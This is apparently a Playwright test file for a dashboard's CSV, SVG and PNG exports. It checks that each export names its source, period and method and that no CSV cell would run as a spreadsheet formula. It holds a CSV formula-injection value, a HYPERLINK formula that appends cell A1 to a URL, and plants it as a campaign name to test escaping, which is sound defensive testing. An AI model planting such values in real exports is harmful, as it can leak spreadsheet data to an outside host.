import type { Locator, Page } from '@playwright/test';
import { parse } from 'csv-parse/sync';
import { expect, open, test, wholePeriod } from './fixtures.ts';

/** A name that a spreadsheet would run, and that is cut where it is not quoted. */
const HOSTILE = '=HYPERLINK("http://127.0.0.1/?"&A1,"Best, offer")';
const SCREENS = [
  '/',
  '/campaigns',
  '/campaigns/-/compare?c=alder-lamp,alder-desk,birch-cup',
  '/campaigns/alder-lamp',
  '/campaigns/alder-lamp?tab=reach',
  '/campaigns/alder-lamp?tab=frequency',
  '/campaigns/alder-lamp?tab=conversion',
  '/devices',
  '/audience',
  '/revenue',
];

declare global {
  interface Window {
    /** What the page handed out as a file last. */
    saved: { name: string; content: Blob } | undefined;
  }
}

/** Keeps the files that the page hands out, in place of the download folder. */
async function keepFiles(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const contents = new Map<string, Blob>();
    const create = URL.createObjectURL.bind(URL);
    URL.createObjectURL = (content: Blob) => {
      const address = create(content);
      contents.set(address, content);
      return address;
    };
    HTMLAnchorElement.prototype.click = function click() {
      const content = contents.get(this.href);
      if (content) window.saved = { name: this.download, content };
    };
  });
}

/** Names a campaign and a brand so that a careless export would run them. */
async function nameHostile(page: Page): Promise<void> {
  await page.route(/\/api\/v1\/(campaigns|brands)(\?|$)/, async (route) => {
    const response = await route.fetch();
    const { items } = (await response.json()) as { items: { slug: string; name: string }[] };
    const named = items.map((item) => (/^(alder-lamp|alder)$/.test(item.slug) ? { ...item, name: HOSTILE } : item));
    await route.fulfill({ response, json: { items: named } });
  });
}

/** Takes one file out of the menu of a part; returns what else is in it. */
async function take(page: Page, part: Locator, kind: RegExp): Promise<string[]> {
  await page.evaluate(() => {
    window.saved = undefined;
  });
  await part.getByRole('button', { name: 'Export' }).click();
  const item = page.getByRole('menuitem', { name: kind });
  await expect(item).toBeVisible();
  const kinds = await page.getByRole('menuitem').allTextContents();
  await item.click();
  await page.waitForFunction(() => window.saved !== undefined);
  await expect(page.getByRole('menu')).toHaveCount(0);
  return kinds;
}

/** Complaints about a CSV: what a reader of it would miss, or a spreadsheet would run. */
function faultsOfCsv(text: string): string[] {
  const head = text
    .split('\r\n')
    .filter((line) => line.startsWith('# '))
    .join('\n');
  const records = parse(text, { comment: '#', comment_no_infix: true });
  const [heads = [], ...figures] = records;
  const runs = records.flat().filter((cell) => /^[=+\-@\t\r＝＋－＠]/u.test(cell) && Number.isNaN(Number(cell)));
  return [
    ...(/# Source: event log of Syncline/.test(head) ? [] : ['no source']),
    ...(/\(UTC\)/.test(head) ? [] : ['no period with its zone']),
    ...(/# (How they are counted|Answered from|.*;)/.test(head) ? [] : ['no method']),
    ...(heads.length > 1 && heads.every((cell) => cell !== '') ? [] : [`a head of ${heads.join('|')}`]),
    ...(figures.length > 0 ? [] : ['no rows']),
    ...runs.map((cell) => `runs ${cell}`),
  ];
}

for (const path of SCREENS) {
  test(`what ${path} exports opens, says what it is, and runs nothing`, async ({ page, world }) => {
    await keepFiles(page);
    await nameHostile(page);
    const [screen = '', search] = path.split('?');
    await open(page, wholePeriod(screen, world, search ? `&${search}` : ''));
    const parts = page.locator('section', { has: page.getByRole('button', { name: 'Export' }) });
    const count = await parts.count();
    expect(count).toBeGreaterThan(0);
    let named = false;
    for (let index = 0; index < count; index += 1) {
      const part = parts.nth(index);
      const title = (await part.getByRole('heading', { level: 2 }).textContent()) ?? '';
      await test.step(title, async () => {
        const kinds = await take(page, part, /^CSV/);
        const csv = await page.evaluate(async () => (await window.saved?.content.text()) ?? '');
        expect(faultsOfCsv(csv), title).toEqual([]);
        named ||= csv.includes(HOSTILE.replaceAll('"', '""'));
        if (!kinds.some((kind) => kind.startsWith('SVG'))) return;
        await take(page, part, /^SVG/);
        const drawing = await page.evaluate(readDrawing);
        expect(drawing.text, title).toContain(title);
        expect(drawing.text).toContain('(UTC)');
        expect(drawing.text).toContain('Source: event log of Syncline');
        expect(drawing.marks, title).toBeGreaterThan(3);
        expect(drawing.beyond, title).toEqual([]);
        await take(page, part, /^PNG/);
        const picture = await page.evaluate(readPicture);
        expect(picture.width).toBe(2 * drawing.width);
        expect(picture.height).toBe(2 * drawing.height);
        expect(picture.colours, title).toBeGreaterThan(8);
      });
    }
    expect(named || !/^\/($|campaigns$|revenue)/.test(path)).toBe(true);
  });
}

/** Reads the SVG that was handed out: its texts, how much is drawn, and texts that stand out of it. */
async function readDrawing() {
  const text = (await window.saved?.content.text()) ?? '';
  const { documentElement: svg } = new DOMParser().parseFromString(text, 'image/svg+xml');
  if (svg.tagName !== 'svg') throw new Error(`No SVG: ${svg.textContent}`);
  const shown = document.importNode(svg, true) as unknown as SVGSVGElement;
  document.body.append(shown);
  const own = shown.getBoundingClientRect();
  const texts = [...shown.querySelectorAll('text')];
  const beyond = texts.filter((each) => {
    const box = each.getBoundingClientRect();
    return box.width > 0 && (box.left < own.left - 1 || box.right > own.right + 1 || box.bottom > own.bottom + 1);
  });
  const result = {
    width: shown.width.baseVal.value,
    height: shown.height.baseVal.value,
    // Lines are cut where the drawing is narrow.
    text: texts.map((each) => each.textContent).join(' '),
    marks: shown.querySelectorAll('path, rect, circle, line, text').length,
    beyond: beyond.map((each) => each.textContent),
  };
  shown.remove();
  return result;
}

/** Reads the PNG that was handed out: its size, and how many colours are in it. */
async function readPicture() {
  if (!window.saved) throw new Error('No file was handed out.');
  const bitmap = await createImageBitmap(window.saved.content);
  const canvas = new OffscreenCanvas(bitmap.width, bitmap.height);
  const context = canvas.getContext('2d');
  if (!context) throw new Error('This browser cannot draw pictures.');
  context.drawImage(bitmap, 0, 0);
  const { data } = context.getImageData(0, 0, bitmap.width, bitmap.height);
  const colours = new Set(new Uint32Array(data.buffer));
  return { width: bitmap.width, height: bitmap.height, colours: colours.size };
}
